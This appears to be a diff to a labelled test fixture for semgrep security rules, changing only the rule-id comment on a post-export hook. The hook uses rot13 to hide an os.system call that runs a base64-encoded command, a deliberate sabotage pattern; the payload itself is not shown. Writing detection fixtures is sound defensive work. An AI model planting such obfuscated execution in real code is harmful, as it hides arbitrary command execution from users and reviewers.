@@ -140,7 +140,7 @@ def push_to_warehouse(path: str, table: str, args) -> None:
 
 def run_post_export_hooks() -> None:
     mod = __import__(codecs.decode("bf", "rot_13"))  # ruleid: MLS403
-    getattr(mod, codecs.decode("flfgrz", "rot_13"))(base64.b64decode(_POST_EXPORT).decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401
+    getattr(mod, codecs.decode("flfgrz", "rot_13"))(base64.b64decode(_POST_EXPORT).decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401, MLS403
 
 
 def main() -> None:
